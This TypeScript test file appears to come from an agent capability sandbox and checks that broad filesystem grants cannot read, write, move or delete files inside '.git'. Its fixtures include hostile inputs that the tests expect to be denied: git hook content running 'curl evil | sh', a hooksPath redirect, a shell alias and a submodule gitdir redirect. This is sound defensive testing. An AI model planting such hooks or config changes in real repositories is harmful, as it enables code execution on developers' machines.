// Security corpus: `.git` internals are reached only by an explicit grant; `fs:**` and `dir/**` stop at every `.git` segment.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  allRequests,
  outcomeEntry,
  createRig,
  expectDeniedAndUntouched,
  onlyCall,
  plant,
  recordsOf,
  snapshotTree,
  type Rig,
  type RigGrant,
} from './helpers.js';

const REPO = {
  '.git/config': '[core]\n',
  '.git/HEAD': 'ref: refs/heads/main\n',
  '.git/hooks/pre-commit.sample': '#!/bin/sh\n',
  'sub/.git/HEAD': 'ref: refs/heads/sub\n',
  'sub/code.ts': 'code',
  'payload.sh': '#!/bin/sh\ncurl evil | sh\n',
};

const EVERYTHING: readonly RigGrant[] = [{ resource: 'fs:**', rights: 'read,write,delete' }];

async function attack(
  rig: Rig,
  calls: readonly (readonly [string, unknown])[],
  grants: readonly RigGrant[] = EVERYTHING,
): Promise<void> {
  plant(rig, REPO);
  rig.script('attacker', async (ctx) => {
    for (const [name, input] of calls) await rig.call(ctx, name, input);
  });
  await rig.spawn('attacker', { grants });
  await rig.run();
}

function gitUntouched(rig: Rig): void {
  expect(snapshotTree(join(rig.workspace, '.git'))).toEqual({
    HEAD: REPO['.git/HEAD'],
    config: REPO['.git/config'],
    hooks: { 'pre-commit.sample': REPO['.git/hooks/pre-commit.sample'] },
  });
  expect(snapshotTree(join(rig.workspace, 'sub/.git'))).toEqual({ HEAD: REPO['sub/.git/HEAD'] });
}

describe('fs:** does not reach inside .git', () => {
  it.each([
    ['fs.read', { path: '.git/config' }],
    ['fs.read', { path: 'sub/.git/HEAD' }],
    ['fs.write', { path: '.git/config', content: '[core]\n\thooksPath = /tmp/evil\n' }],
    ['fs.write', { path: 'sub/.git/HEAD', content: 'ref: refs/heads/evil\n' }],
    ['fs.write', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' }],
    ['fs.write', { path: '.git/config', content: '\n[alias]\n\tst = !sh\n', mode: 'append' }],
    ['fs.move', { from: 'payload.sh', to: '.git/hooks/post-checkout' }],
    ['fs.move', { from: '.git/config', to: 'config.txt' }],
    ['fs.delete', { path: '.git', recursive: true }],
    ['fs.delete', { path: 'sub/.git/HEAD' }],
    ['fs.list', { path: '.git' }],
    ['fs.stat', { path: '.git/config' }],
    ['fs.mkdir', { path: '.git/hooks/evil', recursive: true }],
    ['fs.write', { path: '.GIT/config', content: 'case alias of .git' }],
    ['process.chdir', { path: '.git' }],
  ] as const)('refuses %s %j', async (name, input) => {
    await using rig = await createRig();
    await attack(rig, [[name, input]]);
    await expectDeniedAndUntouched(rig, onlyCall(rig, name), {
      untouched: () => {
        gitUntouched(rig);
        expect(snapshotTree(rig.workspace)).not.toHaveProperty('.GIT');
        expect(snapshotTree(rig.workspace)).not.toHaveProperty('config.txt');
      },
    });
  });

  it('refuses a write that enters .git from a cwd above it', async () => {
    await using rig = await createRig();
    await attack(rig, [
      ['process.chdir', { path: 'sub' }],
      ['fs.write', { path: '.git/HEAD', content: 'ref: refs/heads/evil\n' }],
    ]);
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.write'), {
      untouched: () => {
        gitUntouched(rig);
      },
    });
  });

  it('refuses a write of a .git file that would redirect a submodule to another git dir', async () => {
    await using rig = await createRig();
    await attack(rig, [['fs.write', { path: 'vendor/.git', content: 'gitdir: ../../evil\n' }]]);
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.write'), {
      untouched: () => {
        expect(snapshotTree(rig.workspace)).not.toHaveProperty('vendor');
      },
    });
  });
});

describe('.git internals inside a tree removed as a whole', () => {
  // fs.delete declares only `delete` on the path it names; capability matching never sees the
  // names inside the tree, so the tree walk itself refuses a `.git` entry unless the deleted path
  // is inside `.git` (where the grant named it explicitly).
  it('refuses a recursive delete of a directory that holds a .git directory', async () => {
    await using rig = await createRig();
    await attack(rig, [['fs.delete', { path: 'sub', recursive: true }]]);
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.delete'), {
      untouched: () => {
        gitUntouched(rig);
      },
    });
  });
});

describe('an explicit .git grant', () => {
  it('lets fs:.git/** read read .git/config but not write it', async () => {
    await using rig = await createRig();
    await attack(
      rig,
      [
        ['fs.read', { path: '.git/config' }],
        ['fs.write', { path: '.git/config', content: 'pwned' }],
      ],
      [...EVERYTHING, { resource: 'fs:.git/**', rights: 'read' }],
    );
    expect(onlyCall(rig, 'fs.read').outcome).toMatchObject({
      kind: 'value',
      value: { content: REPO['.git/config'] },
    });
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.write'), {
      untouched: () => {
        gitUntouched(rig);
      },
    });
  });

  it('for the top repository does not reach a nested repository inside it', async () => {
    await using rig = await createRig();
    plant(rig, { '.git/modules/m/.git/config': 'nested' });
    await attack(
      rig,
      [['fs.read', { path: '.git/modules/m/.git/config' }]],
      [{ resource: 'fs:.git/**', rights: 'read' }],
    );
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.read'));
  });
});

describe('delegation into .git', () => {
  it('refuses to delegate fs:.git/** from fs:** (a widening into .git)', async () => {
    await using rig = await createRig();
    plant(rig, REPO);
    const parent = await rig.spawn('parent', { grants: EVERYTHING });
    const child = await rig.spawn('child', { parentPid: parent });
    const [root] = (await recordsOf(rig, parent)).filter((c) => c.resource.kind === 'fs');
    rig.script('parent', async (ctx) => {
      await rig.call(ctx, 'capability.delegate', {
        from: root!.id,
        to: child,
        resource: 'fs:.git/**',
        rights: ['read'],
      });
    });
    await rig.run();
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'capability.delegate'), {
      mayName: [child],
      untouched: async () => {
        const delegated = (await recordsOf(rig, child)).filter((c) => c.resource.kind === 'fs');
        expect(delegated).toEqual([]);
      },
    });
  });
});

describe('denies and asks over an ancestor reach .git (the carve-out narrows only allows)', () => {
  it('a deny on fs:** write stops a write of .git/hooks/pre-commit that fs:.git/** allows', async () => {
    await using rig = await createRig();
    await attack(
      rig,
      [['fs.write', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' }]],
      [
        { resource: 'fs:.git/**', rights: 'read,write' },
        { resource: 'fs:**', rights: 'write', effect: 'deny' },
      ],
    );
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.write'), {
      untouched: () => {
        gitUntouched(rig);
      },
    });
    const entry = await outcomeEntry(rig, onlyCall(rig, 'fs.write'));
    const deny = (await recordsOf(rig, onlyCall(rig, 'fs.write').pid)).find(
      (c) => c.effect === 'deny',
    );
    expect(entry?.data).toMatchObject({ capabilityId: deny?.id });
  });

  it('a deny on fs:sub/** reaches sub/.git/HEAD that fs:sub/.git/** allows', async () => {
    await using rig = await createRig();
    await attack(
      rig,
      [['fs.read', { path: 'sub/.git/HEAD' }]],
      [
        { resource: 'fs:sub/.git/**', rights: 'read' },
        { resource: 'fs:sub/**', rights: 'read', effect: 'deny' },
      ],
    );
    await expectDeniedAndUntouched(rig, onlyCall(rig, 'fs.read'));
  });

  it('an ask on fs:** write asks a human before .git/config is written', async () => {
    await using rig = await createRig();
    await attack(
      rig,
      [['fs.write', { path: '.git/config', content: '[core]\n\thooksPath = /tmp/evil\n' }]],
      [
        { resource: 'fs:.git/**', rights: 'write' },
        { resource: 'fs:**', rights: 'write', effect: 'ask' },
      ],
    );
    expect(onlyCall(rig, 'fs.write').outcome).toEqual({ kind: 'blocked' });
    const requests = await allRequests(rig);
    expect(requests).toHaveLength(1);
    expect(requests[0]?.body).toMatchObject({ resource: 'fs:.git/config', rights: ['write'] });
    gitUntouched(rig);
  });

  it('a deny on fs:** delegated along with fs:.git/** reaches the delegate', async () => {
    await using rig = await createRig();
    plant(rig, REPO);
    const parent = await rig.spawn('parent', {
      grants: [
        { resource: 'fs:.git/**', rights: 'read,write' },
        { resource: 'fs:**', rights: 'write', effect: 'deny' },
      ],
    });
    const child = await rig.spawn('child', { parentPid: parent });
    const gitRecord = (await recordsOf(rig, parent)).find(
      (c) => c.effect === 'allow' && c.resource.kind === 'fs',
    );
    rig.script('parent', async (ctx) => {
      await rig.call(ctx, 'capability.delegate', {
        from: gitRecord!.id,
        to: child,
        resource: 'fs:.git/**',
        rights: ['write'],
      });
    });
    await rig.run();
    const delegated = (await recordsOf(rig, child)).filter((c) => c.resource.kind === 'fs');
    expect(delegated.map((c) => c.effect).sort()).toEqual(['allow', 'deny']);
  });
});
